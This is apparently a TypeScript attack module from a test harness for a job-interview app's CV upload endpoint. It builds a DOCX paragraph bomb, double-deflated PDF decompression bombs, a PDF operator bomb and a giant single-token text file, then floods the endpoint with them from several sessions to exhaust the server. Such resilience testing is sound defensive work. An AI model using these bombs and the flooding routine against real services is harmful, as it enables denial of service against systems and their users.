import { deflateSync } from 'node:zlib'
import { makeDocxFromXml } from '../../../apps/server/src/testing/make-documents'
import { flood, makeMultipart } from '../attacker-client'
import { paths, startAttackerInterview } from '../attacker-interview'
import type { Attack, AttackTarget } from '../types'

const sessionCount = 4

interface CvFile {
  readonly name: string
  readonly type: string
  readonly bytes: Uint8Array
}

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

/** 600,000 empty paragraphs in about 62 KB. */
const makeParagraphBomb = (): CvFile => ({
  name: 'cv.docx',
  type: docxType,
  bytes: makeDocxFromXml('<w:p/>'.repeat(600_000)),
})

const wrapPdf = (content: Uint8Array, filter: string): Uint8Array => {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
  ]
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')]
  const offsets: number[] = []
  const add = (body: Buffer): void => {
    offsets.push(parts.reduce((sum, part) => sum + part.length, 0))
    parts.push(Buffer.from(`${offsets.length} 0 obj\n`), body, Buffer.from('\nendobj\n'))
  }
  for (const object of objects) add(Buffer.from(object))
  const dictionary = `<< /Length ${content.length} /Filter ${filter} >>\nstream\n`
  add(Buffer.concat([Buffer.from(dictionary), content, Buffer.from('\nendstream')]))
  const start = parts.reduce((sum, part) => sum + part.length, 0)
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${rows}`
  parts.push(Buffer.from(`${table}trailer << /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`))
  return Buffer.concat(parts)
}

/** Deflated twice: about a kilobyte becomes hundreds of megabytes. */
const makeDoubleFlate = (): CvFile => ({
  name: 'cv.pdf',
  type: 'application/pdf',
  bytes: wrapPdf(deflateSync(deflateSync(Buffer.alloc(300_000_000, ' '))), '[/FlateDecode /FlateDecode]'),
})

/** Three million operators in a few kilobytes. */
const makeOperatorBomb = (): CvFile => ({
  name: 'cv.pdf',
  type: 'application/pdf',
  bytes: wrapPdf(deflateSync(Buffer.from('q '.repeat(3_000_000))), '/FlateDecode'),
})

/** One token as long as the whole text. */
const makeLongToken = (): CvFile => ({ name: 'cv.txt', type: 'text/plain', bytes: Buffer.alloc(400_000, 'a1.b-') })

/** Several anonymous candidates who send a CV again as soon as the last one is answered. */
const prepareUploads = async (target: AttackTarget, files: readonly CvFile[]) => {
  const interviews = await Promise.all(Array.from({ length: sessionCount }, () => startAttackerInterview(target)))
  const requests = interviews.flatMap(({ client, sessionId }) =>
    files.map((file) => {
      const { headers, body } = makeMultipart({ sessionId }, file)
      return { method: 'POST', path: paths.cv, headers: { ...headers, cookie: client.cookie() }, body }
    }),
  )
  return async (untilMs: number) => {
    const statuses = await flood({
      port: target.port,
      connections: sessionCount * 2,
      untilMs,
      next: (nth) => {
        const request = requests[nth % requests.length]
        if (request === undefined) throw new Error('there is no request to send')
        return request
      },
    })
    return { statuses: statuses.toRecord(), achieved: `${statuses.get('201')} files read` }
  }
}

export const documentAttacks: readonly Attack[] = [
  { name: 'docx-paragraphs', prepare: (target) => prepareUploads(target, [makeParagraphBomb()]) },
  { name: 'pdf-bombs', prepare: (target) => prepareUploads(target, [makeDoubleFlate(), makeOperatorBomb()]) },
  { name: 'cv-long-token', prepare: (target) => prepareUploads(target, [makeLongToken()]) },
]
